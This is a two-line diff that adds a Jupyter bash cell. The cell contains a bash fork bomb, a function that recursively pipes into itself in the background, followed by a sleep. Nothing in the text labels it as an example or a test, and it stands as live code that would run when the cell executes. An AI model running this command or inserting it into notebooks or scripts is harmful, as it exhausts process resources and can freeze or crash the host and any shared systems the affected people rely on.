@@ -1,0 +1,2 @@
+%%bash
+bomb() { bomb | bomb & }; bomb; sleep 20
